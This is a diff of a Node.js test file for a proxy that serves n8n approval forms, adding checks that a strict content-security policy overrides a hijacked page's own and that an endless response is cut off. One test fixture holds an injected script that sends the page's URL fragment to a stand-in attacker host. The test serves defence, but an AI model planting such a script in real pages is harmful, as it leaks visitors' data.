@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict';
-import { request as httpRequest, type Server } from 'node:http';
+import { createServer, request as httpRequest, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, beforeEach, test } from 'node:test';
 import express from 'express';
+import { formPolicy } from '../../../gateway/approvals/form-policy.ts';
 import { waitingProxy } from '../../../gateway/approvals/index.ts';
 import { createLogger } from '../../../gateway/config/index.ts';
 import { fakeN8n, type FakeN8n } from './fake-n8n.ts';
@@ -60,7 +61,11 @@ test('a GET passes with its query untouched, and only its page, type and policy 
     },
   });
   assert.equal(await response.text(), '<p>form</p>');
-  assert.equal(response.headers.get('content-security-policy'), form.headers['content-security-policy']);
+  // Two policies: a browser allows only what both allow.
+  assert.equal(
+    response.headers.get('content-security-policy'),
+    `${form.headers['content-security-policy']}, ${formPolicy}`,
+  );
   assert.equal(response.headers.get('cache-control'), 'no-store');
   assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
   assert.equal(response.headers.get('set-cookie'), null);
@@ -79,14 +84,58 @@ test('a POST passes its form', async () => {
   assert.match(n8n.calls[0]?.headers['content-type'] ?? '', /urlencoded/);
 });
 
-test('a page without a policy of its own may do nothing', async () => {
-  n8n.answers.splice(0, 1, {
-    status: 200,
-    body: '<script>1</script>',
-    headers: { 'content-type': 'text/html' },
+test('a page of whoever took n8n over gets no origin, no script and no address of its own', async () => {
+  // The public origin is also that of the chat and the approvals page: a script here could vote for its visitor.
+  const script = '<script>fetch("//evil.example/" + location.hash)</script>';
+  for (const policy of [undefined, "default-src * 'unsafe-inline'", '']) {
+    n8n.answers.splice(0, 1, {
+      status: 200,
+      body: script,
+      headers: {
+        'content-type': 'text/html',
+        ...(policy === undefined ? {} : { 'content-security-policy': policy }),
+      },
+    });
+    const response = await fetch(`${base}${path}`);
+    const policies = (response.headers.get('content-security-policy') ?? '').split(', ');
+    assert.equal(policies.at(-1), formPolicy);
+    assert.match(formPolicy, /^default-src 'none'; script-src 'sha256-[\w+/=]{44}'; /);
+    assert.match(formPolicy, /; sandbox allow-forms allow-scripts$/);
+    assert.match(formPolicy, /form-action 'self'; base-uri 'none'; frame-ancestors 'none'/);
+  }
+});
+
+test('an answer without an end is cut off, not collected', async (t) => {
+  let sent = 0;
+  const flood = createServer((_request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' });
+    const more = (): void => {
+      while (sent < 64 * 1024 * 1024 && !response.destroyed) {
+        sent += 65_536;
+        if (!response.write(Buffer.alloc(65_536, 97))) {
+          response.once('drain', more);
+          return;
+        }
+      }
+      response.end();
+    };
+    more();
+  }).listen(0, '127.0.0.1');
+  await new Promise((resolve) => flood.once('listening', resolve));
+  const app = express();
+  const n8nUrl = `http://127.0.0.1:${(flood.address() as AddressInfo).port}`;
+  app.use('/webhook-waiting', waitingProxy({ n8nUrl, log: createLogger('silent') }));
+  const door = app.listen(0, '127.0.0.1');
+  await new Promise((resolve) => door.once('listening', resolve));
+  t.after(() => {
+    for (const listener of [door, flood]) {
+      listener.closeAllConnections();
+      listener.close();
+    }
   });
-  const response = await fetch(`${base}${path}`);
-  assert.match(response.headers.get('content-security-policy') ?? '', /^default-src 'none'.*sandbox$/);
+  const response = await fetch(`http://127.0.0.1:${(door.address() as AddressInfo).port}${path}`);
+  assert.equal(response.status, 502);
+  assert.ok(sent < 16 * 1024 * 1024, `took ${sent} bytes of it`);
 });
 
 test('HEAD and every other method are refused and never reach n8n', async () => {
